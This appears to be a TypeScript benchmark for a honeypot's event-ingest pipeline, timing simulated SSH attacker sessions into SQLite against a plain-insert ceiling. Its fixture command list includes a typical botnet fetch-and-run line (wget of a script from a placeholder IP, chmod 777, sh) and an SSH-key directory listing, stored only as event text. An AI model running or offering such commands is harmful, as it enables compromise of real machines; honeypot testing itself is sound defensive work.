// Ingest benchmark: events per second from a sensor's SessionScope.emit (validation on, as in production) through
// the MemoryBus to committed SQLite rows, against a ceiling measured in the same run: the same event rows
// written with plain better-sqlite3 prepared statements into the same tables, in transactions of the same size.
// Run: node --import tsx bench/ingest.ts [--events 200000] [--rounds 2]
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { performance } from 'node:perf_hooks';
import { parseArgs } from 'node:util';
import Database from 'better-sqlite3';
import { silentLogger } from '../src/core/logger.js';
import { Metrics } from '../src/core/metrics.js';
import { systemClock } from '../src/core/clock.js';
import { SessionScope } from '../src/core/session-scope.js';
import { ConfigSchema } from '../src/schema/config.js';
import type { PhantomEvent } from '../src/schema/events.js';
import { MemoryBus } from '../src/pipeline/memory-bus.js';
import { SqliteStore } from '../src/store/sqlite/sqlite-store.js';
import { EVENT_COLUMNS, eventValues, type EventRowValues } from '../src/store/sqlite/event-row.js';

const { values: args } = parseArgs({
  options: {
    events: { type: 'string', default: '200000' },
    // Each round measures ceiling and pipeline back to back; the best of each is reported (shared hosts are noisy).
    rounds: { type: 'string', default: '2' },
    // Sessions emitted per turn of the event loop: a sensor handles I/O between bursts of events.
    burst: { type: 'string', default: '200' },
  },
});
const config = ConfigSchema.parse({});
const BATCH = config.store.batch_size;
const COMMANDS = ['uname -a', 'cat /proc/cpuinfo | grep name | wc -l', 'free -m', 'cd /tmp; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh; sh bins.sh', 'ls -la ~/.ssh'];
const PASSWORDS = ['123456', 'password', 'admin', 'root', 'P@ssw0rd', 'qwerty'];
/** connect + 3 failed logins + 5 commands + closed. */
const EVENTS_PER_SESSION = 10;
const sessions = Math.ceil(Number(args.events) / EVENTS_PER_SESSION);
const total = sessions * EVENTS_PER_SESSION;
const burst = Number(args.burst);

/** Emits one attacker session the way the SSH sensor does. */
function runSession(i: number, publish: (e: PhantomEvent) => void, validate: boolean, onInvalid: () => void): void {
  const scope = new SessionScope(
    { protocol: 'ssh', src_ip: `10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i % 997}`, src_port: 1024 + (i % 60_000), dst_ip: '192.0.2.10', dst_port: 2222 },
    { sensor: 'bench-01', clock: systemClock, publish, onInvalid, validate },
  );
  for (let k = 0; k < 3; k++) scope.emit('login.failed', { username: 'root', password: PASSWORDS[(i + k) % PASSWORDS.length]!, method: 'password' });
  for (let k = 0; k < 5; k++) scope.emit('command.input', { input: COMMANDS[k]! });
  scope.close('client');
}

const turn = () => new Promise<void>((r) => setImmediate(r));

interface EndToEnd {
  eps: number;
  ms: number;
  dropped: number;
  invalid: number;
  committed: number;
  sessionRows: number;
}

/** Sensor emit -> MemoryBus -> SqliteStore, timed until the last event is committed. */
async function endToEnd(n: number, validate: boolean): Promise<EndToEnd> {
  const dir = mkdtempSync(join(tmpdir(), 'pn-bench-'));
  try {
    const metrics = new Metrics();
    const store = await SqliteStore.open({
      path: join(dir, 'phantomnet.sqlite'),
      logger: silentLogger,
      metrics,
      batchSize: BATCH,
      flushIntervalMs: config.store.flush_interval_ms,
    });
    const bus = new MemoryBus({ capacity: config.bus.queue_capacity, logger: silentLogger, metrics });
    // As the composition root wires it: a commit backlog holds the bus queue, which is bounded and counts drops.
    bus.subscribe('store', async (batch) => {
      store.append(batch);
      await store.writable();
    });
    let invalid = 0;
    const publish = (e: PhantomEvent) => bus.publish(e);
    const onInvalid = () => invalid++;
    const count = n / EVENTS_PER_SESSION;
    const t0 = performance.now();
    for (let i = 0; i < count; i++) {
      runSession(i, publish, validate, onInvalid);
      if (i % burst === burst - 1) await turn();
    }
    await bus.drain();
    await store.flush();
    const ms = performance.now() - t0;
    const dropped = bus.stats().subscribers['store']!.dropped;
    const committed = store.committedCount();
    await bus.close();
    await store.close();
    const check = new Database(join(dir, 'phantomnet.sqlite'), { readonly: true });
    const sessionRows = (check.prepare('select count(*) as n from sessions where outcome = ?').get('auth_failed') as { n: number }).n;
    check.close();
    return { eps: (n / ms) * 1000, ms, dropped, invalid, committed, sessionRows };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/** The same event rows, prebuilt, inserted with one plain prepared statement in transactions of BATCH rows. */
async function ceiling(n: number): Promise<{ eps: number; ms: number }> {
  const dir = mkdtempSync(join(tmpdir(), 'pn-bench-'));
  try {
    const path = join(dir, 'phantomnet.sqlite');
    // Same tables and indexes: let the store's migrations create them, then write around the store.
    await (await SqliteStore.open({ path, logger: silentLogger, metrics: new Metrics() })).close();
    const rows: EventRowValues[] = [];
    for (let i = 0; i < n / EVENTS_PER_SESSION; i++) runSession(i, (e) => rows.push(eventValues(e)), false, () => {});
    const db = new Database(path);
    db.pragma('journal_mode = WAL');
    db.pragma('synchronous = NORMAL');
    const insert = db.prepare<EventRowValues>(`insert into events (${EVENT_COLUMNS.join(', ')}) values (${EVENT_COLUMNS.map(() => '?').join(', ')})`);
    const commit = db.transaction((from: number, to: number) => {
      for (let i = from; i < to; i++) insert.run(...rows[i]!);
    });
    const t0 = performance.now();
    for (let i = 0; i < rows.length; i += BATCH) commit(i, Math.min(i + BATCH, rows.length));
    const ms = performance.now() - t0;
    db.close();
    return { eps: (n / ms) * 1000, ms };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

const fmt = (x: number) => Math.round(x).toLocaleString('en-US');

async function main(): Promise<void> {
  const rounds = Number(args.rounds);
  console.log(`ingest bench: ${fmt(total)} events in ${fmt(sessions)} SSH sessions, batch ${BATCH}, ${rounds} rounds, node ${process.version}`);
  await endToEnd(Math.min(total, 20_000), true); // warm-up: JIT, zod and SQLite code paths
  const ceilings: { eps: number; ms: number }[] = [];
  const validated: EndToEnd[] = [];
  const unvalidated: EndToEnd[] = [];
  for (let r = 1; r <= rounds; r++) {
    const c = await ceiling(total);
    const v = await endToEnd(total, true);
    const u = await endToEnd(total, false);
    ceilings.push(c);
    validated.push(v);
    unvalidated.push(u);
    console.log(`round ${r}: ceiling ${fmt(c.eps)}/s, pipeline ${fmt(v.eps)}/s (validation off ${fmt(u.eps)}/s)`);
  }
  const best = <T extends { eps: number }>(list: T[]): T => list.reduce((a, b) => (b.eps > a.eps ? b : a));
  const base = best(ceilings);
  const e2e = best(validated);
  const raw = best(unvalidated);
  console.log(`ceiling   plain better-sqlite3 inserts, events table     ${fmt(base.eps).padStart(9)} events/s  (${fmt(base.ms)} ms)`);
  console.log(`pipeline  emit (validated) -> MemoryBus -> SqliteStore    ${fmt(e2e.eps).padStart(9)} events/s  (${fmt(e2e.ms)} ms)`);
  console.log(`pipeline  same, validation off (reference only)         ${fmt(raw.eps).padStart(9)} events/s  (${fmt(raw.ms)} ms)`);
  console.log(`ratio     pipeline / ceiling                           ${(e2e.eps / base.eps).toFixed(2)}`);
  const dropped = [...validated, ...unvalidated].reduce((n, r) => n + r.dropped, 0);
  console.log(`bus drops ${dropped}`);
  const bad: string[] = [];
  for (const [name, list] of [['validated', validated], ['unvalidated', unvalidated]] as const) {
    for (const r of list) {
      if (r.dropped > 0) bad.push(`${name}: ${r.dropped} events dropped by the bus`);
      if (r.invalid > 0) bad.push(`${name}: ${r.invalid} events failed validation`);
      if (r.committed !== total) bad.push(`${name}: committed ${r.committed} of ${total}`);
      if (r.sessionRows !== sessions) bad.push(`${name}: ${r.sessionRows} auth_failed session rows, expected ${sessions}`);
    }
  }
  if (bad.length > 0) {
    for (const line of bad) console.error(`FAIL ${line}`);
    process.exitCode = 1;
  }
}

await main();
